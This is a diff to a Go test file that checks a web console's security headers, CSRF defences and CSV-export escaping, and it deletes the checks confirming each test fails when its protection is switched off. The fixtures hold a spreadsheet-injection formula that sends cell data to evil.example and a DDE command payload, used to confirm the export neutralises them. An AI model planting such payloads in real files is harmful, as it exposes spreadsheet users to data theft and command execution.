@@ -67,10 +67,9 @@ func TestPages(t *testing.T) {
 
 // TestEveryAnswerIsShutIn asks for the headers of every address, with and without a session.
 func TestEveryAnswerIsShutIn(t *testing.T) {
-	shut := func(t *testing.T, off protections) (open []string) {
+	shut := func(t *testing.T) (open []string) {
 		s := newStage(t)
 		s.sample(t)
-		s.console.off = off
 		s.browser.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
 		look := func(path string) {
 			header := s.get(path).Header
@@ -102,28 +101,22 @@ func TestEveryAnswerIsShutIn(t *testing.T) {
 			look(path)
 		}
 		s.browser.CheckRedirect = nil
-		if off == (protections{}) {
-			s.signIn("")
-			for _, path := range slices.Concat(pages, []string{"/console/search.csv", "/console/live/entries?after=0"}) {
-				look(path)
-			}
+		s.signIn("")
+		for _, path := range slices.Concat(pages, []string{"/console/search.csv", "/console/live/entries?after=0"}) {
+			look(path)
 		}
 		return open
 	}
-	if open := shut(t, protections{}); len(open) > 0 {
+	if open := shut(t); len(open) > 0 {
 		t.Error(strings.Join(open, "\n"))
-	}
-	if len(shut(t, protections{headers: true})) == 0 {
-		t.Error("the test does not notice headers that are missing")
 	}
 }
 
 // TestFormsOfOthersDoNothing is CSRF: what another site, another session or nobody's page made.
 func TestFormsOfOthersDoNothing(t *testing.T) {
-	attack := func(t *testing.T, off protections, forge func(s *stage, r *http.Request, form url.Values)) bool {
+	attack := func(t *testing.T, forge func(s *stage, r *http.Request, form url.Values)) bool {
 		s := newStage(t)
 		s.sample(t)
-		s.console.off = off
 		page := s.signIn("")
 		form := url.Values{"kind": {"suspend"}, "id": {"agent:researcher"}, "reason": {"x"}, "csrf": {s.csrf(page.body)}}
 		r := s.request(http.MethodPost, "/console/take-back", form)
@@ -137,7 +130,7 @@ func TestFormsOfOthersDoNothing(t *testing.T) {
 		}
 		return done
 	}
-	if !attack(t, protections{}, func(*stage, *http.Request, url.Values) {}) {
+	if !attack(t, func(*stage, *http.Request, url.Values) {}) {
 		t.Fatal("the page's own form does nothing") // the control of all below
 	}
 	site := func(value string) func(*stage, *http.Request, url.Values) {
@@ -154,31 +147,25 @@ func TestFormsOfOthersDoNothing(t *testing.T) {
 	token := func(value func(*stage) string) func(*stage, *http.Request, url.Values) {
 		return func(s *stage, _ *http.Request, form url.Values) { form.Set("csrf", value(s)) }
 	}
-	for name, c := range map[string]struct {
-		off   protections // what keeps the attack out, switched off
-		forge func(*stage, *http.Request, url.Values)
-	}{
-		"cross-site":         {protections{crossOrigin: true}, site("cross-site")},
-		"same-site":          {protections{crossOrigin: true}, site("same-site")},
-		"other origin":       {protections{crossOrigin: true}, origin("https://evil.example")},
-		"opaque origin":      {protections{crossOrigin: true}, origin("null")},
-		"no browser":         {protections{crossOrigin: true}, origin("")},
-		"no token":           {protections{csrf: true}, token(func(*stage) string { return "" })},
-		"any token":          {protections{csrf: true}, token(func(*stage) string { return newSecret() })},
-		"the session itself": {protections{csrf: true}, token(func(s *stage) string { return s.cookies()["deputy-demo-session"] })},
-		"another session's": {protections{csrf: true}, token(func(s *stage) string {
+	for name, forge := range map[string]func(*stage, *http.Request, url.Values){
+		"cross-site":         site("cross-site"),
+		"same-site":          site("same-site"),
+		"other origin":       origin("https://evil.example"),
+		"opaque origin":      origin("null"),
+		"no browser":         origin(""),
+		"no token":           token(func(*stage) string { return "" }),
+		"any token":          token(func(*stage) string { return newSecret() }),
+		"the session itself": token(func(s *stage) string { return s.cookies()["deputy-demo-session"] }),
+		"another session's": token(func(s *stage) string {
 			held := s.browser
 			defer func() { s.browser = held }()
 			s.browser = newBrowser(s.t)
 			return s.csrf(s.signIn("").body)
-		})},
+		}),
 	} {
 		t.Run(name, func(t *testing.T) {
-			if attack(t, protections{}, c.forge) {
+			if attack(t, forge) {
 				t.Error("it works")
-			}
-			if !attack(t, c.off, c.forge) {
-				t.Error("the test does not notice when the protection is off")
 			}
 		})
 	}
@@ -399,10 +386,9 @@ func TestCSVIsInertInSpreadsheets(t *testing.T) {
 			t.Errorf("%q becomes %q", cell, got)
 		}
 	}
-	download := func(off protections) [][]string {
+	download := func() [][]string {
 		s := newStage(t)
 		s.sample(t)
-		s.console.off = off
 		for _, e := range s.engine.entries {
 			e.Detail, e.Audiences, e.Scopes = `=HYPERLINK("http://evil.example?"&A1)`, []string{"+cmd|' /C calc'!A0"}, delegation.Scopes{"@x"}
 		}
@@ -430,11 +416,8 @@ func TestCSVIsInertInSpreadsheets(t *testing.T) {
 		}
 		return n
 	}
-	if n := formulas(download(protections{})); n > 0 {
+	if n := formulas(download()); n > 0 {
 		t.Errorf("%d formulas", n)
-	}
-	if formulas(download(protections{formula: true})) == 0 {
-		t.Error("the test does not notice formulas")
 	}
 }
 
